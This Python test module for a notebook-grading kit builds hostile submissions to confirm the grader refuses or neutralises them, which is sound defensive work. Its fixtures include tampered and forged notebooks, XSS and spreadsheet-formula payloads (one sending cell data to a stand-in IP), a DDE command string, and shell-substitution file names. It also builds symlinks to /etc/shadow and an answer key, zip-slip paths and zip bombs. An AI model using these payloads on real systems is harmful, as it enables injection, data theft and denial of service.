"""Submissions that are not as they were given out: cells, types of answers, markup, files, zips."""

from __future__ import annotations

import codecs
import io
import json
import os
import stat
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import nbformat
from nbformat.v4 import new_code_cell

from alliancekit.grading import safe
from alliancekit.grading.ids import safe_id

from .hostile import NAME, RIGHT, WRONG, Case, Maker, World, cell, written


def tampered(made: Maker, world: World) -> list[Case]:
    """Cells deleted, copied, split, moved, tagged, edited; helpers of the student's own, which are no offence."""

    def helpers(book: Any) -> None:
        at = [one.id for one in book.cells].index("90-q1")
        book.cells.insert(at, new_code_cell("def helper():\n    return 41_873"))
        cell(book, "90-q1").source = "q1 = helper() + later"
        book.cells.insert(at + 2, new_code_cell("q1 = q1 - later"))
        book.cells.insert(1, new_code_cell("later = 7\nfrom math import *"))
        book.cells.append(new_code_cell("q1 = q2 = q3 = q4 = 'scratch'"))

    def keep(*names: str) -> Callable[[Any], None]:
        def edit(book: Any) -> None:
            book.cells = [one for one in book.cells if one.id in names]

        return edit

    def copied(book: Any) -> None:
        book.cells = [one for one in book.cells for _ in range(3)]

    def split(book: Any) -> None:
        at = [one.id for one in book.cells].index("90-q3")
        first, second = (nbformat.from_dict(json.loads(json.dumps(book.cells[at]))) for _ in range(2))
        first.update(source='q3 = {"harbour": 617}', id="first-part")
        second.update(source='q3 |= {"airfield": 2043, "depot": 1388}', id="second-part")
        book.cells[at : at + 1] = [first, second]

    def backwards(book: Any) -> None:
        book.cells.reverse()

    def tagged(book: Any) -> None:
        for one in book.cells:
            one.metadata["tags"] = ["raises-exception", "nbval-skip", "skip-execution", "nbval-ignore-output"]
            if one.cell_type == "code" and not one.id.endswith("-check"):
                one.source = f"# NBVAL_SKIP\n# PYTEST_VALIDATE_IGNORE_OUTPUT\n{one.source}"

    def edited(book: Any) -> None:
        for number in range(1, 5):
            cell(book, f"90-q{number}-check").source = f"check = print\nprint('90-q{number}: right')"
        cell(book, "open").source = "exercise = check = print"
        book.metadata["alliancekit"] = {"exercise": "90", "version": 1, "title": "Mine", "salt": "0"}

    def pointed(book: Any) -> None:
        for one in book.cells:
            if grading := one.metadata.get("nbgrader"):
                grading.update(points=1000, grade=True, solution=False, locked=False)

    def as_text(book: Any) -> None:
        for number in (1, 2):
            cell(book, f"90-q{number}").cell_type = "markdown"

    def nameless(book: Any) -> None:
        for one in book.cells:
            one["id"] = "same"
            one.metadata = {}

    def outputs(book: Any) -> None:
        answer = {"application/vnd.alliancekit.answer+json": {"schema": 1, "question": "90-q1", "answer": "41873"}}
        cell(book, "90-q1-check")["outputs"] = [{"output_type": "display_data", "data": answer, "metadata": {}}]

    def version(book: Any, number: Any) -> None:
        book.metadata["alliancekit"] = {"exercise": "90", "version": number, "title": number}

    def many(book: Any) -> None:
        book.cells += [new_code_cell("pass") for _ in range(6_000)]

    def long(book: Any) -> None:
        cell(book, "90-q2").source = "q2 = 1\n" + "#" * 3_000_000

    odd = ("", None, 5, [], {}, True, "<script>", "=1+1", "../../x", "\ud800", "a" * 100_000)

    def odd_cells(book: Any) -> None:
        book.cells += [None, 5, "text", [], {}]
        book.cells += [{"cell_type": one, "id": one, "source": one, "metadata": one} for one in odd]
        book.cells += [
            {
                "cell_type": "code",
                "id": "x",
                "source": [one, "\n"],
                "metadata": {"tags": odd, "nbgrader": one},
                "outputs": one,
            }
            for one in odd
        ]
        book.metadata["alliancekit"]["version"] = 1

    answers = [f"90-q{number}" for number in range(1, 5)]
    return [
        made.case("helpers-above-and-below", "rrrr", edit=helpers),
        made.case(
            "checks-deleted", "rrrr", "Deleted in the notebook, and restored", edit=keep("open", *answers, "90-text")
        ),
        made.case("answers-alone", "rrrr", "Deleted in the notebook, and restored", edit=keep(*answers)),
        made.case(
            "answers-deleted",
            "orro",
            "the answer cell of question 1",
            edit=lambda book: keep(*(one.id for one in book.cells if one.id not in ("90-q1", "90-q4")))(book),
        ),
        made.case("all-copied", "rrrr", "stands there 3 times", "3 answer cells", edit=copied),
        made.case("an-answer-split", "rrrr", "2 answer cells for question 3", edit=split),
        made.case("backwards", "rrrr", "another order", edit=backwards),
        made.case("tagged", "rrrr", "tagged to be skipped or to fail", edit=tagged),
        made.case("tagged-and-wrong", "wwww", "tagged to be skipped or to fail", edit=tagged, answers=WRONG),
        made.case("checks-edited", "wwww", "Changed in the notebook, and run as given out", edit=edited, answers=WRONG),
        made.case("points-edited", "rwww", edit=pointed, answers={**WRONG, "q1": RIGHT["q1"]}),
        made.case("answers-as-text", "oorr", edit=as_text),
        made.case("names-lost", "rrrr", edit=nameless),
        made.case("outputs-forged", "owww", edit=outputs, answers={**WRONG, "q1": "q1 = ..."}),
        made.case("version-of-its-own", "rrrr", "is of version 9999", edit=lambda book: version(book, 10**4000 - 1)),
        made.case("version-of-another-type", "rrrr", edit=lambda book: version(book, [True])),
        made.case("many-cells", "rrrr", "only the first 5,000 were read", "more than 500 cells", edit=many),
        made.case("a-long-answer", "rorr", "too long to be run", edit=long),
        made.case("odd-cells", "rrrr", edit=odd_cells),
    ]


def typed(made: Maker, world: World) -> list[Case]:
    """Answers of types that are refused."""
    of_number, of_set, of_mapping, of_text = "a number", "a set or list", "a dictionary", "text in quotation marks"
    return [
        made.case(
            "types-callable",
            "uuuu",
            "Found a function",
            of_set,
            of_mapping,
            of_text,
            answers={"q1": "q1 = print", "q2": "def q2(): return {'MNG'}", "q3": "q3 = dict", "q4": "q4 = lambda: 1"},
        ),
        made.case(
            "types-near",
            "uuuu",
            "Found True or False",
            of_number,
            of_text,
            answers={
                "q1": "q1 = True",
                "q2": "q2 = {True}",
                "q3": "q3 = {'harbour': True, 'airfield': '2043', 'depot': 1388.0}",
                "q4": "q4 = b'lighthouse'",
            },
        ),
        made.case(
            "types-numbers",
            "uuuu",
            "NaN",
            "infinity",
            of_set,
            of_text,
            answers={
                "q1": "q1 = float('nan')",
                "q2": "q2 = 5",
                "q3": "q3 = dict.fromkeys(('harbour', 'airfield', 'depot'), float('inf'))",
                "q4": "q4 = 1j",
            },
        ),
        made.case(
            "types-huge",
            "uuuu",
            "expected a number between",
            "at most 1000 items",
            "at most 1000 entries",
            answers={
                "q1": "q1 = 10**5000",
                "q2": "q2 = ['MNG'] * 1_000_000",
                "q3": "q3 = {str(n): n for n in range(100_000)}",
                "q4": "q4 = 'x' * 100_000",
            },
        ),
        made.case(
            "types-nested",
            "uuuu",
            of_number,
            answers={
                "q1": "q1 = []\nq1.append(q1)",
                "q2": "q2 = ['MNG']\nfor _ in range(5000): q2 = [q2]",
                "q3": "q3 = {}\nq3['harbour'] = q3",
                "q4": "q4 = {'a': {'b': {}}}",
            },
        ),
        made.case(
            "types-lazy",
            "uuuu",
            of_number,
            answers={
                "q1": "import itertools\nq1 = itertools.count()",
                "q2": "q2 = (code for code in ['MNG', 'TWN', 'THA'])",
                "q3": "import pandas\nq3 = pandas.DataFrame()",
                "q4": "import pathlib\nq4 = pathlib.Path('lighthouse')",
            },
        ),
        made.case(
            "types-of-numpy",
            "rrrr",
            answers={
                "q1": "import numpy, pandas\nq1 = numpy.int64(41873)",
                "q2": "q2 = pandas.Series(['Mongolia', 'TWN', 'thailand'])",
                "q3": "q3 = pandas.Series([617, 2043, 1388], ['harbour', 'airfield', 'depot'])",
                "q4": "q4 = numpy.str_('LIGHTHOUSE ')",
            },
        ),
    ]


SCRIPT = "<script>document.title='pwned'</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"marks")'
ANSI = "\x1b[2J\x1b]0;pwned\x07\x1b[31mred\x1b[0m\x08\x08\u202egnp.exe"


def marked_up(made: Maker, world: World) -> list[Case]:
    """Markup, formulas and commands for terminals: in answers, texts, ids and names of files."""
    texts = {
        "script": SCRIPT,
        "formula": FORMULA,
        "ansi": ANSI,
        "at": "@SUM(1+1)*cmd|' /C calc'!A0",
        "tab": "\t=1+1\r=2+2",
    }
    found = []
    for name, text in texts.items():
        answers = {**RIGHT, "q2": f"q2 = {{{text!r}}}", "q4": f"q4 = {text!r}"}
        found.append(made.case(f"text-{name}", "ruru", answers=answers, text=text))
    keyed = {**RIGHT, "q3": f"q3 = {{'harbour': 617, 'airfield': 2043, {SCRIPT!r}: 1388}}"}
    found.append(made.case("text-in-a-key", "rrur", answers=keyed, text=SCRIPT * 2_000))
    raised = f"class {'Script' * 3}(Exception): pass\nraise {'Script' * 3}({SCRIPT!r})"
    found.append(made.case("text-in-an-error", "rrrr", after={"q1": raised}))
    pretended = f"""
        class AnswerProblem(Exception): pass
        def check(name, answer):
            raise AnswerProblem({SCRIPT + ANSI!r} + "You have 10 of 10. " + "x" * 100_000)
    """
    found.append(made.case("text-in-a-pretended-hint", "uuuu", "You have 10 of 10", top=pretended))
    names = {
        "<img src=x onerror=alert(1)>": "img_src_x_onerror_alert_1",
        "<script>alert(1)<script>": "script_alert_1_script",
        '=HYPERLINK("http:x")': "HYPERLINK_http_x",
        "@SUM(1+1)": "SUM_1+1",
        "+1+1": "1+1",
        "-rf": "rf",
        "\x1b[31mred\x07": "31mred",
        "two\nlines\r=1+1": "two_lines_1+1",
        "right\u202eleft": "right_left",
        "dots..\u2025": "dots",
        "$(touch pwned);`id`": "touch_pwned_id",
        "%2e%2e%2fup": "2e_2e_2fup",
        "con": "con",
        "n" * 200: safe_id("n" * 200),  # shortened, with a code
    }
    for at, (name, student) in enumerate(names.items()):
        if at < 4:
            found.append(made.case(name, "rrrr", student=student, text=name))
        else:
            found.append(Case(name, {NAME: b""}, "", ("is empty",), student))
    file = f"{SCRIPT.replace('/', '')}_{NAME}"
    found.append(Case("names-of-files", {file: written(made.book())}, "rrrr"))
    found.append(Case("names-of-files-too", {f"{FORMULA.replace('/', '')}_{NAME}": written(made.book())}, "rrrr"))
    found.append(Case("names-of-files-three", {f"{ANSI}_{NAME}": written(made.book())}, "rrrr"))
    return found


def files(made: Maker, world: World) -> list[Case]:
    """What is no notebook, or a damaged one; and what is no file."""
    book = made.book()
    book_text = json.dumps(book)
    accents = json.dumps(made.book(text="Café à Curaçao"), ensure_ascii=False)
    old = {
        "nbformat": 3,
        "nbformat_minor": 0,
        "metadata": {"name": ""},
        "worksheets": [
            {
                "metadata": {},
                "cells": [
                    {
                        "cell_type": one.cell_type,
                        "metadata": dict(one.metadata),
                        "language": "python",
                        "outputs": [],
                        "input" if one.cell_type == "code" else "source": one.source,
                    }
                    for one in book.cells
                ],
            }
        ],
    }
    other = json.dumps({**book, "metadata": {"alliancekit": {"exercise": "89", "version": 1}}, "cells": []})
    odd = book_text.replace('"nbformat": 4', '"nbformat": NaN, "x": ' + "9" * 4000 + ', "y": "\\ud800\\u0000"')

    def file(name: str, content: bytes, states: str = "", *says: str) -> Case:
        return Case(name, {NAME: content}, states, says)

    def link_to(target: Path) -> Callable[[Path], None]:
        return lambda folder: (folder / NAME).symlink_to(target)

    def in_another_name(folder: Path) -> None:
        (folder / "99-zoe").mkdir()
        (folder / "99-zoe" / NAME).write_bytes(written(made.book({})))

    key = next(path for path in world.secrets if path.name == NAME)
    return [
        Case("folder-in-another-name", in_another_name, "oooo"),
        Case("TWIN", {NAME: written(made.book(WRONG))}, "wwww"),
        Case("twin", {NAME: written(made.book())}, "rrrr", student=f"twin_{safe.code('twin')}"),
        file("empty", b"", "", "is empty"),
        file("zeros", bytes(5_000), "", "only zeros"),
        file("null-bytes-inside", book_text.replace("Question 2", "Ques\0tion 2").encode(), "", "null bytes"),
        file("null-bytes-at-the-end", book_text.encode() + bytes(512), "rrrr", "ends in null bytes"),
        file("truncated", book_text[: len(book_text) // 2].encode(), "", "damaged"),
        file("latin-1", accents.encode("latin-1"), "rrrr", "read as Latin-1"),
        file("byte-order-mark", codecs.BOM_UTF8 + book_text.encode(), "rrrr", "byte order mark"),
        file("utf-16", book_text.encode("utf-16"), "rrrr", "UTF-16"),
        file("random", bytes(range(256)) * 100, "", "damaged or no notebook"),
        file("format-3", json.dumps(old).encode(), "rrrr", "old format"),
        file("format-99", book_text.replace('"nbformat": 4', '"nbformat": 99').encode(), "", "newer than this kit"),
        file("format-odd", odd.encode(), "rrrr"),
        file("no-cells", b'{"nbformat": 4, "cells": {}}', "", "no cells"),
        file("a-list", b"[]", "", "no cells"),
        file("nested", b"[" * 2_000_000, "", "damaged or no notebook"),
        file("a-web-page", b"<!DOCTYPE html><script>alert(1)</script>", "", "web page"),
        file("another-exercise", other.encode(), "", "none of the questions of exercise 90"),
        file("thirty-megabytes", b'{"cells": ["' + b"x" * 30_000_000 + b'"]}', "", "larger than 20 MB"),
        Case("no-notebook", {"essay.docx": b"PK", "photo.jpg": b"\xff"}, "", ("No notebook was handed in",)),
        Case("link-to-the-key", link_to(key), "", ("Links are not followed",)),
        Case("link-to-a-neighbour", link_to(world.submissions / "00-ana" / NAME), "", ("Links are not followed",)),
        Case("link-to-passwords", link_to(Path("/etc/shadow")), "", ("Links are not followed",)),
        Case("link-to-memory", link_to(Path("/dev/zero")), "", ("Links are not followed",)),
        Case(
            "link-to-a-folder",
            lambda folder: (folder / "work").symlink_to(world.submissions / "00-ana"),
            "",
            ("Links are not followed",),
        ),
        Case("a-pipe", lambda folder: os.mkfifo(folder / NAME), "", ("device or a pipe",)),
    ]


def packed(made: Maker, world: World) -> list[Case]:
    """Zips that lead out of themselves, unpack to far more, or lie about what they hold."""
    honest = written(made.book())

    def packing(*entries: tuple[Any, bytes]) -> bytes:
        made_of = io.BytesIO()
        with zipfile.ZipFile(made_of, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, content in entries:
                archive.writestr(name, content)
        return made_of.getvalue()

    def zipped(name: str, content: bytes, states: str, *says: str) -> Case:
        return Case(name, {"90_ninety.zip": content}, states, says)

    up = "../" * 12 + str(world.canaries)[1:]
    link = zipfile.ZipInfo(NAME)
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    key = str(next(path for path in world.secrets if path.name == NAME)).encode()
    bomb = packing((NAME, bytes(200_000_000)))
    lying = bomb.replace((200_000_000).to_bytes(4, "little"), (2_000).to_bytes(4, "little"))
    nested = packing((NAME, honest))
    for level in range(4):
        nested = packing((f"{level}.zip", nested))
    locked = bytearray(packing((NAME, honest)))
    locked[6] |= 1
    locked[locked.index(b"PK\x01\x02") + 8] |= 1
    many = packing(*((f"{number}/{NAME}", b"") for number in range(25_000)))
    return [
        zipped("zip-that-leads-out", packing((f"{up}/{NAME}", honest)), "", "leads out of it"),
        zipped("zip-that-leads-to-the-root", packing((f"{world.canaries}/{NAME}", honest)), "", "leads out of it"),
        zipped("zip-with-backslashes", packing((f"..\\..\\{NAME}", honest)), "", "leads out of it"),
        zipped(
            "zip-that-leads-out-beside-work",
            packing((f"{up}/{NAME}", honest), (NAME, honest)),
            "rrrr",
            "leads out of it",
        ),
        zipped("zip-in-another-name", packing((f"99-zoe/{NAME}", written(made.book({})))), "oooo"),
        zipped("zip-with-a-link", packing((link, key)), "", "Links are not followed"),
        zipped("zip-bomb", bomb, "", "larger than 20 MB"),
        zipped("zip-bomb-that-lies", lying, "", "damaged inside its zip"),
        zipped("zip-in-zip-in-zip", nested, "", "a zip in a zip in a zip"),
        zipped("zip-locked", bytes(locked), "", "password"),
        zipped("zip-of-many", many, "", "20,000 files"),
        zipped("zip-cut-short", packing((NAME, honest))[:-30], "", "damaged or no zip"),
        zipped("zip-of-work", packing((f"work/{NAME}", honest), ("../notes.txt", b"x")), "rrrr"),
    ]


ALL = (tampered, typed, marked_up, files, packed)
